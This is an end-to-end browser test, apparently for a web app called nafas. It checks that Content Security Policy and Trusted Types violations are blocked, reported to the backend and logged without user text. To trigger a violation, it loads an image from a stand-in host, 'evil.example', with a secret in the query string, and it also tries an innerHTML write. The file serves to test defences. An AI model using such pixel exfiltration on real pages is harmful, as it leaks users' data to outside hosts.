import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Backend, startBackend } from '@nafas/backend';
import { serveProduct } from '@nafas/serve';
import { root } from '../support/product.ts';
import { CHROMIUM } from '../support/browsers.ts';
import { expect, test } from '../support/test.ts';
import { startTlsProxy } from '../support/tls-proxy.ts';

test.use({
  expectedConsole: {
    'what is forbidden is tried':
      /requires 'TrustedHTML' assignment|violates the following Content Security Policy/,
    'the site is gone before the page is': /net::ERR_CONNECTION_REFUSED/,
  },
});

// Browsers send such reports over https only, the headless shell none, and Chromium keeps them for a minute; the switch is
// its own, for tests.
test.use({
  ignoreHTTPSErrors: true,
  launchOptions: {
    ...CHROMIUM,
    args: [...(CHROMIUM.args ?? []), '--short-reporting-delay', '--ignore-certificate-errors'],
  },
});

test('what the policy and Trusted Types forbid in a browser arrives at the report endpoint', async ({
  page,
  watch,
}) => {
  const dataDir = await mkdtemp(join(tmpdir(), 'nafas-reports-'));
  const site = await startTlsProxy();
  const api = await startTlsProxy();
  let backend: Backend | undefined;
  const served = await serveProduct({
    root,
    features: [],
    port: 0,
    backend: async () => {
      backend = await startBackend({ dataDir, port: 0, allowedOrigins: [site.origin] });
      api.target = backend.url;
      return { url: api.origin, anonKey: backend.anonKey };
    },
  });
  site.target = served.url;
  // The backend runs in this process: what it logs of a report is what arrived.
  const lines: string[] = [];
  const { warn } = console;
  console.warn = (line: unknown) => void lines.push(String(line));
  try {
    await page.goto(`${site.origin}/help`);
    const isThrown = await page.evaluate(() => {
      new Image().src = 'https://evil.example/pixel.png?secret=what-somebody-wrote';
      try {
        document.createElement('div').innerHTML = '<b>what somebody wrote</b>';
        return false;
      } catch {
        return true;
      }
    });
    expect(isThrown).toBe(true);
    const violation = (directive: string, blocked: string) =>
      JSON.stringify({ event: 'policy-violation', directive, blocked, disposition: 'enforce' });
    await expect
      .poll(() => lines)
      .toEqual(
        expect.arrayContaining([
          violation('img-src', 'https://evil.example'),
          violation('require-trusted-types-for', 'trusted-types-sink'),
        ]),
      );
    expect(lines.join('\n')).not.toContain('somebody');
    expect(watch.violations.map((text) => text.split(' ')[1]).sort()).toEqual([
      'img-src',
      'require-trusted-types-for',
    ]);
    watch.violations.length = 0;
  } finally {
    console.warn = warn;
    await served.close();
    await backend?.close();
    await site.close();
    await api.close();
    await rm(dataDir, { recursive: true, force: true });
  }
});
